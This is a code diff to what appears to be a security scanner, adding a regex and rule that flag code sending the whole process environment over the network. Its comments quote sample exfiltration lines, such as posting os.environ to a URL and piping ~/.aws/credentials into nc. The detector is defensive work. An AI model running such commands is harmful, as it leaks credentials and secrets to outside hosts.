@@ -94,6 +94,10 @@ const CODE_FILE_READ =
 const CODE_NETWORK_SEND =
   /socket|urlopen|urllib|requests\.(post|put)|https?\.request|require\(["']https?["']\)|fetch\(|IO::Socket|LWP|HTTP::Tiny|curl_exec|Net::HTTP|net\.connect|\.send\(|\.sendall\(/i;
 
+/** The environment as a whole, as code reads it: `dict(os.environ)`, `os.environ.copy()`, `JSON.stringify(process.env)`. */
+const CODE_WHOLE_ENVIRONMENT =
+  /dict\(os\.environ\)|os\.environ\.copy\(\)|json\.dumps\(os\.environ|=\s?os\.environ\s?[,)]|JSON\.stringify\(process\.env\)|%ENV\b|ENV\.to_h/;
+
 export function codeUploads(analysis: Analysis): Hit[] {
   const hits: Hit[] = [];
   for (const c of analysis.code) {
@@ -108,7 +112,21 @@ export function codeUploads(analysis: Analysis): Hit[] {
       }
       continue;
     }
-    if (!CODE_FILE_READ.test(c.code) || !CODE_NETWORK_SEND.test(c.code)) continue;
+    if (!CODE_NETWORK_SEND.test(c.code)) continue;
+    // The whole environment sent (`requests.post(url, json=dict(os.environ))`): every secret in it.
+    if (CODE_WHOLE_ENVIRONMENT.test(c.code)) {
+      hits.push(
+        hitOn(
+          c,
+          "code-upload-environment",
+          Severity.HIGH,
+          0.85,
+          `${c.interpreter} code sends the environment over the network`,
+        ),
+      );
+      continue;
+    }
+    if (!CODE_FILE_READ.test(c.code)) continue;
     const secret = pathTokens(c.code).find(isSensitiveFile);
     hits.push(
       secret !== undefined
@@ -131,7 +149,7 @@ export function codeUploads(analysis: Analysis): Hit[] {
   return hits;
 }
 
-export const uploadPatterns: readonly RegExp[] = [CODE_FILE_READ, CODE_NETWORK_SEND];
+export const uploadPatterns: readonly RegExp[] = [CODE_FILE_READ, CODE_NETWORK_SEND, CODE_WHOLE_ENVIRONMENT];
 
 /** A secret read early in a pipeline and piped into a network client after it (`cat ~/.aws/credentials | nc h 9`). */
 /** A variable named for a secret: `$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`, `$DB_PASSWORD`. */
